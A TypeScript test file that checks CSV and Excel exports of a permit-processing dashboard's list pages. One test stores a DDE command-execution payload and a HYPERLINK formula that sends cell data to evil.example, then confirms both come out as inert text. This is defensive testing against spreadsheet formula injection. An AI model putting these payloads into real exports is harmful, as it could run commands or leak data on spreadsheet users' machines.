import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fixedClock } from "../../src/clock/index.ts";
import { SLICE } from "../../src/db/repos/in-id-order.ts";
import { runImport } from "../../src/imports/run-import.ts";
import { writeSampleExport } from "../../src/sample/generate.ts";
import { TEST_NOW, visibleText } from "../support/app.ts";
import { BACKENDS, useTestDatabase } from "../support/test-db.ts";

// Every dashboard list downloaded as CSV and Excel (issue 16), read back as a spreadsheet user
// would: the rows are the page's rows for the same filters, all of them, in its order; dates and
// numbers are real ones; a name a spreadsheet would run as a formula stays text.

const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
// The DDE payload that opens a calculator when a spreadsheet runs the cell.
const DDE = "+cmd|' /C calc'!A0";
const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';

const parseCount = (s: string) => Number(s.replace(/\./g, ""));

/** The row count a list page states under its table. */
function listTotal(html: string): number {
  const m = /Halaman [\d.]+ dari [\d.]+ · ([\d.]+) baris/.exec(visibleText(html));
  if (!m) throw new Error("no pager on the page");
  return parseCount(m[1]!);
}

/** The permit numbers a list page links, in its order. */
const permitNumbers = (html: string) => [...html.matchAll(/<a href="\/permohonan\/\d+(?:#[^"]*)?">([^<]+)<\/a>/g)].map((m) => m[1]!);

/** The first cells of a page table's body rows. */
const firstCells = (html: string) => [...(/<tbody>([^]*?)<\/tbody>/.exec(html)?.[1] ?? "").matchAll(/<tr><td>([^]*?)<\/td>/g)].map((m) => visibleText(m[1]!));

interface Sheet {
  headers: string[];
  rows: ExcelJS.CellValue[][];
  cells: ExcelJS.Cell[][];
  sheet: ExcelJS.Worksheet;
}

async function readXlsx(body: ArrayBuffer): Promise<Sheet> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(body) as unknown as ExcelJS.Buffer);
  const sheet = wb.worksheets[0]!;
  // The header row is the frozen one, under the title block.
  const headerRow = sheet.views[0]?.state === "frozen" ? (sheet.views[0] as { ySplit: number }).ySplit : 1;
  const width = sheet.getRow(headerRow).cellCount;
  const headers = Array.from({ length: width }, (_, i) => String(sheet.getRow(headerRow).getCell(i + 1).value));
  const cells: ExcelJS.Cell[][] = [];
  for (let r = headerRow + 1; r <= sheet.rowCount; r++) cells.push(Array.from({ length: width }, (_, i) => sheet.getRow(r).getCell(i + 1)));
  return { headers, cells, rows: cells.map((row) => row.map((c) => c.value)), sheet };
}

describe.each(BACKENDS)("list exports on %s", (kind) => {
  const t = useTestDatabase(kind);
  const dir = mkdtempSync(join(tmpdir(), "mutubaku-list-exports-"));
  const get = async (path: string) => {
    const res = await t.app.request(path);
    const html = await res.text();
    return { status: res.status, html };
  };
  const csv = async (path: string) => {
    const res = await t.app.request(path);
    const bytes = Buffer.from(await res.arrayBuffer());
    expect(res.status, path).toBe(200);
    expect([...bytes.subarray(0, 3)], "a UTF-8 BOM first").toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString("utf8");
    const records = parse(text) as string[][];
    return { res, text, headers: records[0]!, rows: records.slice(1) };
  };
  const xlsx = async (path: string) => {
    const res = await t.app.request(path);
    expect(res.status, path).toBe(200);
    expect(res.headers.get("content-type")).toBe(XLSX);
    return { res, ...(await readXlsx(await res.arrayBuffer())) };
  };

  beforeAll(async () => {
    const sample = await writeSampleExport({ officeSlug: "kampar", months: 4, seed: 3, outDir: dir, now: new Date(TEST_NOW) });
    await runImport(t.database.db, fixedClock(TEST_NOW), { office: "kampar", files: sample.files.map((f) => ({ name: "kampar.csv", path: f })) });
  }, 120_000);
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it("Permohonan: every row the page counts, in its order, with its filters; dates and numbers as such", async () => {
    const page = await get("/permohonan?office=kampar");
    expect(page.html).toContain('href="/permohonan/unduh.csv?office=kampar"');
    expect(page.html).toContain('href="/permohonan/unduh.xlsx?office=kampar"');
    const total = listTotal(page.html);
    expect(total).toBeGreaterThan(100);

    const c = await csv("/permohonan/unduh.csv?office=kampar");
    expect(c.res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(c.res.headers.get("content-disposition")).toBe('attachment; filename="permohonan-kampar-2025-12-01_2026-11-23.csv"');
    expect(c.text).toContain("\r\n");
    expect(c.headers).toEqual(["Nomor permohonan", "Jenis izin", "Kantor", "Diajukan", "Selesai", "Batas waktu", "Status", "Waktu kerja (hari kerja)", "Standar (hari kerja)", "% standar terpakai"]);
    expect(c.rows.length).toBe(total);
    expect(new Set(c.rows.map((r) => r[0])).size).toBe(total);
    // The page's order, across its pages: page one, then page two.
    const page2 = await get("/permohonan?office=kampar&page=2");
    expect(c.rows.slice(0, 100).map((r) => r[0])).toEqual([...permitNumbers(page.html), ...permitNumbers(page2.html)]);
    expect(c.rows[0]![2]).toBe("DPMPTSP Kabupaten Kampar");
    expect(c.rows[0]![3]).toMatch(/^2026-\d\d-\d\d \d\d:\d\d$/);
    expect(c.rows.some((r) => /^\d+(\.\d+)?$/.test(r[7]!))).toBe(true);
    expect(c.rows.filter((r) => r[9] !== "").every((r) => /^\d+(\.\d)?$/.test(r[9]!))).toBe(true);

    // A filter narrows the file as it narrows the page: late ones, newest first, in a period.
    const filters = "office=kampar&status=late&sort=newest&from=2026-09-01&to=2026-10-31&basis=finished";
    const late = await get(`/permohonan?${filters}`);
    const lateCsv = await csv(`/permohonan/unduh.csv?${filters}`);
    expect(lateCsv.res.headers.get("content-disposition")).toBe('attachment; filename="permohonan-kampar-2026-09-01_2026-10-31.csv"');
    expect(lateCsv.rows.length).toBe(listTotal(late.html));
    expect(lateCsv.rows.length).toBeLessThan(total);
    expect(lateCsv.rows.length).toBeGreaterThan(0);
    expect(new Set(lateCsv.rows.map((r) => r[6]))).toEqual(new Set(["Terlambat"]));
    expect(lateCsv.rows[0]![0]).toBe(permitNumbers(late.html)[0]);
    // A search too.
    const number = c.rows[0]![0]!;
    const found = await csv(`/permohonan/unduh.csv?office=kampar&q=${encodeURIComponent(number.slice(-5))}`);
    expect(found.rows.length).toBe(listTotal((await get(`/permohonan?office=kampar&q=${encodeURIComponent(number.slice(-5))}`)).html));
    expect(found.rows.map((r) => r[0])).toContain(number);

    // The workbook: the same rows, real dates and numbers with their formats, a frozen header with a filter.
    const x = await xlsx(`/permohonan/unduh.xlsx?${filters}`);
    expect(x.res.headers.get("content-disposition")).toBe('attachment; filename="permohonan-kampar-2026-09-01_2026-10-31.xlsx"');
    expect(x.headers).toEqual(lateCsv.headers);
    expect(x.rows.length).toBe(lateCsv.rows.length);
    expect(x.rows.map((r) => r[0])).toEqual(lateCsv.rows.map((r) => r[0]));
    // Late rows are highlighted by their Status column (the seventh, G), whatever its place.
    const statusLetter = String.fromCharCode(65 + x.headers.indexOf("Status"));
    expect(statusLetter).toBe("G");
    // exceljs reads the rules back but its types leave the property out.
    const rules = JSON.stringify((x.sheet as unknown as { conditionalFormattings: unknown }).conditionalFormattings);
    expect(rules).toContain(`$${statusLetter}`);
    expect(rules).toContain("Terlambat");
    const first = x.cells[0]!;
    expect(first[3]!.value).toBeInstanceOf(Date);
    expect(first[3]!.numFmt).toBe("dd/mm/yyyy hh:mm");
    // The wall clock of the office, as the CSV writes it.
    expect((first[3]!.value as Date).toISOString().slice(0, 16).replace("T", " ")).toBe(lateCsv.rows[0]![3]);
    expect(first[4]!.value).toBeInstanceOf(Date);
    expect(typeof first[7]!.value).toBe("number");
    expect(first[7]!.numFmt).toBe("#,##0.00");
    expect(typeof first[9]!.value).toBe("number");
    expect(first[9]!.numFmt).toBe("0.0%");
    expect(Math.round((first[9]!.value as number) * 1000) / 10).toBe(Number(lateCsv.rows[0]![9]));
    expect(x.sheet.autoFilter).toBeTruthy();
    expect(x.sheet.getRow(1).getCell(1).value).toBe("Permohonan · DPMPTSP Kabupaten Kampar");
  });

  it("Langkah: every step occurrence the page counts, in its order, both formats", async () => {
    const filters = "office=kampar&from=2026-08-01&to=2026-11-23";
    const page = await get(`/langkah?${filters}`);
    expect(page.html).toContain(`href="/langkah/unduh.xlsx?${filters.replace(/&/g, "&amp;")}"`);
    const total = listTotal(page.html);
    // More than one slice of ids (src/db/repos/in-id-order.ts) is read.
    expect(total).toBeGreaterThan(SLICE);
    const c = await csv(`/langkah/unduh.csv?${filters}`);
    expect(c.res.headers.get("content-disposition")).toBe('attachment; filename="langkah-kampar-2026-08-01_2026-11-23.csv"');
    expect(c.rows.length).toBe(total);
    expect(c.headers.slice(0, 9)).toEqual(["Nomor permohonan", "Jenis izin", "Kantor", "No", "Langkah", "Nama di sistem sumber", "Kejadian ke", "Pemilik waktu", "Petugas"]);
    const page2 = await get(`/langkah?${filters}&page=2`);
    expect(c.rows.slice(0, 100).map((r) => r[0])).toEqual([...permitNumbers(page.html), ...permitNumbers(page2.html)]);
    // Sorted by working time, longest first, as the page is.
    const working = c.rows.map((r) => (r[12] === "" ? -1 : Number(r[12])));
    expect(working).toEqual([...working].sort((a, b) => b - a));

    const narrowed = "office=kampar&from=2026-10-01&to=2026-11-23&status=late&owner=office&sort=share";
    const n = listTotal((await get(`/langkah?${narrowed}`)).html);
    const x = await xlsx(`/langkah/unduh.xlsx?${narrowed}`);
    expect(x.rows.length).toBe(n);
    expect(n).toBeLessThan(total);
    expect(new Set(x.rows.map((r) => r[15]))).toEqual(new Set(["Terlambat"]));
    expect(new Set(x.rows.map((r) => r[7]))).toEqual(new Set(["DPMPTSP"]));
    expect(typeof x.rows[0]![3]).toBe("number");
    expect(x.rows[0]![9]).toBeInstanceOf(Date);
    const shares = x.rows.map((r) => r[14] as number);
    expect(shares).toEqual([...shares].sort((a, b) => b - a));
  });

  it("Jenis izin and Petugas: the page's rows and figures", async () => {
    const filters = "office=kampar&from=2026-08-01&to=2026-11-23";
    const types = await get(`/jenis-izin?${filters}`);
    expect(types.html).toContain(`href="/jenis-izin/unduh.csv?${filters.replace(/&/g, "&amp;")}"`);
    const tc = await csv(`/jenis-izin/unduh.csv?${filters}`);
    expect(tc.res.headers.get("content-disposition")).toBe('attachment; filename="jenis-izin-kampar-2026-08-01_2026-11-23.csv"');
    expect(tc.rows.map((r) => r[0])).toEqual(firstCells(types.html));
    const api = (await (await t.app.request(`/api/v1/compliance?${filters}&basis=finished&by=permit_type`)).json()) as { rows: { key: string; finished: number; onTime: number }[] };
    for (const r of api.rows) {
      const row = tc.rows.find((x) => x[0] === r.key)!;
      expect(Number(row[2]), r.key).toBe(r.finished);
      expect(Number(row[3]), r.key).toBe(r.onTime);
    }
    const tx = await xlsx(`/jenis-izin/unduh.xlsx?${filters}`);
    expect(tx.rows.map((r) => r[0])).toEqual(tc.rows.map((r) => r[0]));
    expect(tx.rows.every((r) => typeof r[2] === "number")).toBe(true);
    // A chosen type narrows the file as the page.
    const one = await csv(`/jenis-izin/unduh.csv?${filters}&permit_type=${encodeURIComponent(tc.rows[0]![0]!)}`);
    expect(one.rows.map((r) => r[0])).toEqual([tc.rows[0]![0]]);

    const officers = await get(`/petugas?${filters}`);
    const oc = await csv(`/petugas/unduh.csv?${filters}`);
    expect(oc.headers).toEqual(["Petugas", "Langkah selesai", "Tepat waktu", "Terlambat", "Tepat waktu (%)", "Berjalan saat ini"]);
    expect(oc.rows.map((r) => r[0])).toEqual(firstCells(officers.html));
    expect(oc.rows.length).toBeGreaterThan(3);
    // Each officer's figure is the number of rows of the step list it links to.
    const busiest = oc.rows[0]!;
    const steps = await csv(`/langkah/unduh.csv?${filters}&basis=finished&officer=${encodeURIComponent(busiest[0]!)}&status=on_time,late,no_standard`);
    expect(steps.rows.length).toBe(Number(busiest[1]));
    const ox = await xlsx(`/petugas/unduh.xlsx?${filters}`);
    expect(ox.rows.map((r) => r[1])).toEqual(oc.rows.map((r) => Number(r[1])));
  });

  it("English headers and statuses with ?lang=en", async () => {
    const c = await csv("/permohonan/unduh.csv?office=kampar&status=late&lang=en");
    expect(c.headers).toEqual(["Permit number", "Permit type", "Office", "Submitted", "Finished", "Due", "Status", "Working time (working days)", "Standard (working days)", "Share of standard used"]);
    expect(new Set(c.rows.map((r) => r[6]))).toEqual(new Set(["Late"]));
    const x = await xlsx("/petugas/unduh.xlsx?office=kampar&lang=en");
    expect(x.headers[0]).toBe("Officer");
    expect(x.sheet.name).toBe("Officers");
  });

  it("over every office: a name that says so, and working days while the offices share one calendar", async () => {
    const c = await csv("/langkah/unduh.csv?status=late");
    expect(c.res.headers.get("content-disposition")).toBe('attachment; filename="langkah-semua-kantor-2025-12-01_2026-11-23.csv"');
    expect(c.rows.length).toBe(listTotal((await get("/langkah?status=late")).html));
    expect(c.headers[12]).toBe("Waktu kerja (hari kerja)");
  });

  it("a stored name a spreadsheet would run comes out as text in both formats", async () => {
    // The import refuses such names (issue 10); these were stored before it did, or by hand.
    const db = t.database.db;
    const { rows } = await sql<{ id: number }>`
      select r.id from step_record r join step_verdict v on v.step_record_id = r.id
      where v.owner = 'office' and r.ended_at is not null order by r.id limit 1`.execute(db);
    const id = Number(rows[0]!.id);
    await db.updateTable("step_record").set({ actor: DDE, step_name: LINK }).where("id", "=", id).execute();
    // The verdict keeps its own copy of the officer, which the lists filter by.
    await db.updateTable("step_verdict").set({ actor: DDE }).where("step_record_id", "=", id).execute();
    const path = `office=kampar&officer=${encodeURIComponent(DDE)}`;
    expect(listTotal((await get(`/langkah?${path}`)).html)).toBe(1);

    const c = await csv(`/langkah/unduh.csv?${path}`);
    expect(c.rows.length).toBe(1);
    expect(c.rows[0]![8]).toBe(`'${DDE}`);
    expect(c.rows[0]![5]).toBe(`'${LINK}`);
    expect(c.rows.flat().filter((cell) => /^[\s]*[=+\-@\t\r]/.test(cell))).toEqual([]);

    const x = await xlsx(`/langkah/unduh.xlsx?${path}`);
    const officer = x.cells[0]![8]!;
    const name = x.cells[0]![5]!;
    expect(officer.type).toBe(ExcelJS.ValueType.String);
    expect(officer.value).toBe(DDE);
    expect(officer.numFmt).toBe("@");
    expect(name.type).toBe(ExcelJS.ValueType.String);
    expect(name.value).toBe(LINK);
    expect(name.formula).toBeUndefined();
  });

  it("a wrong filter is a 400 naming it, as on the page; the permit page still answers by its id", async () => {
    const bad = await t.app.request("/permohonan/unduh.csv?status=lost");
    expect(bad.status).toBe(400);
    expect(visibleText(await bad.text())).toContain('status: nilai "lost" tidak dapat dipakai');
    expect((await t.app.request("/langkah/unduh.xlsx?from=2026-13-01")).status).toBe(400);
    expect((await t.app.request("/petugas/unduh.csv?office=atlantis")).status).toBe(400);
    expect((await t.app.request("/jenis-izin/unduh.xlsx?from=2026-05-01&to=2026-04-01")).status).toBe(400);
    expect((await t.app.request("/permohonan/unduh.pdf")).status).toBe(404);
    const id = /<a href="\/permohonan\/(\d+)">/.exec((await get("/permohonan?office=kampar")).html)![1]!;
    expect((await get(`/permohonan/${id}`)).status).toBe(200);
    expect((await get("/jenis-izin/kampar-izin-kerja-teknisi-gigi")).status).toBe(200);
  });
});
